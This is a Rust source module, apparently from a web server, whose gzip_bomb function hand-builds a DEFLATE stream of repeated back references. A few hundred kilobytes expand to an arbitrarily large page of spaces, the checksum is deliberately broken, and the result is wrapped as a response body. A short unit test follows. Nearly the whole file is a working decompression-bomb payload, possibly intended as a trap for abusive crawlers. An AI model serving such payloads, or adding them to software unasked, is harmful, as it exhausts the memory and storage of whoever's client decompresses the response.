//! A small gzip stream that becomes a large page.

use bytes::Bytes;

use super::body::{Body, Part};

/// Bytes that one back reference of 13 bits stands for.
const RUN: u64 = 258;

/// A gzip stream of at least this many spaces. Its check sum is wrong: nobody may read that far.
///
/// One literal, then references of length 258 and distance 1 in the fixed code of RFC 1951, section 3.2.6. Eight of them are 104 bits, so
/// that the stream repeats itself every 13 bytes.
pub(super) fn gzip_bomb(unpacked: u64) -> Body {
    let mut head = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
    let mut bits = Bits::default();
    bits.low_first(0b011, 3); // the last block, in the fixed code
    bits.high_first(0x30 + u32::from(b' '), 8);
    // The pattern has to begin where a byte does: so many references bring the stream there (11 + 13 n = 0 modulo 8, n = 1).
    bits.reference();
    head.extend(&bits.bytes);
    let mut pattern = Bits::default();
    (0..8).for_each(|_| pattern.reference());
    let rounds = unpacked.div_ceil(8 * RUN);
    let length = rounds * pattern.bytes.len() as u64;
    let mut tail = Bits::default();
    tail.high_first(0, 7); // the end of the block
    tail.high_first(0, 1);
    let mut end = tail.bytes;
    end.extend([0; 8]);
    Body::of(vec![
        Part::Literal(head.into()),
        Part::Repeated { pattern: Bytes::from(pattern.bytes), length },
        Part::Literal(end.into()),
    ])
}

/// Collects bits, the first one lowest in its byte.
#[derive(Default)]
struct Bits {
    bytes: Vec<u8>,
    count: u32,
}

impl Bits {
    fn push(&mut self, bit: u32) {
        if self.count.is_multiple_of(8) {
            self.bytes.push(0);
        }
        if let Some(last) = self.bytes.last_mut() {
            *last |= (bit as u8) << (self.count % 8);
        }
        self.count += 1;
    }

    fn low_first(&mut self, value: u32, width: u32) {
        (0..width).for_each(|at| self.push(value >> at & 1));
    }

    fn high_first(&mut self, value: u32, width: u32) {
        (0..width).rev().for_each(|at| self.push(value >> at & 1));
    }

    /// 258 bytes from one byte back: symbol 285, distance code 0.
    fn reference(&mut self) {
        self.high_first(0b1100_0101, 8);
        self.high_first(0, 5);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn it_is_small_and_whole_bytes() {
        let bomb = gzip_bomb(100_000_000);
        assert!(bomb.length() < 700_000, "{}", bomb.length());
        assert_eq!(bomb.read(10, 3).len(), 3);
    }
}
